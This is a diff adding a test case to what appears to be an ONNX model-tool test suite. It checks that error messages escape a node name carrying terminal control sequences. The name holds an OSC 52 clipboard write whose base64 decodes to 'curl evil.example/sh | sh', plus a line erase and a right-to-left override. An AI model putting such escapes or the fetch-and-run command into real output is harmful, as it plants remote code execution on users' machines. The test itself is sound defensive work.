@@ -128,6 +128,20 @@ def unsupported_op(tmp):
     return _build(tmp, _model(tmp, model), _calib(tmp))
 
 
+TERMINAL_ESCAPES = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07\x1b[2K\x9b1A\u202e"  # clipboard, erase, RLO
+
+
+def terminal_escapes_in_a_name(tmp):
+    """A node name that writes `curl evil.example/sh | sh` to the clipboard (OSC 52), erases the line
+    and reverses the text that follows, printed in the error that names the node."""
+    model = tiny_conv_model()
+    model.graph.node.append(onnx.helper.make_node("FancyOp", ["y"], ["z"], name="fancy" + TERMINAL_ESCAPES,
+                                                  domain="com.example"))
+    model.graph.output[0].name = "z"
+    model.opset_import.append(onnx.helper.make_opsetid("com.example", 1))
+    return _build(tmp, _model(tmp, model), _calib(tmp))
+
+
 def dynamic_dim_no_shape(tmp):
     return _build(tmp, _model(tmp, tiny_conv_model(dynamic_batch=True)), _calib(tmp, key="other"))
 
@@ -621,6 +635,9 @@ CASES = [
     Case("external-data-outside", "ONNX external data that is a symlink to a file outside the model's folder",
          external_data_outside, ("model.onnx", "initializer 'w'", "outside the model folder")),
     Case("unsupported-op", "an op the target cannot run", unsupported_op, ("fancy_node", "FancyOp", "jetson")),
+    Case("terminal-escapes", "a node name holding terminal escapes (OSC 52 clipboard write, line erase, "
+         "right-to-left override)", terminal_escapes_in_a_name,
+         ("node 'fancy\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\\x07", "\\x9b1A\\u202e' (com.example::FancyOp)")),
     Case("no-inputs", "a model with no inputs (only constants)", no_inputs, ("model.onnx", "no inputs")),
     Case("zero-stride", "a pooling node with stride 0 (ONNX's shape inference would crash the process)",
          zero_stride, ("'pool'", "strides")),
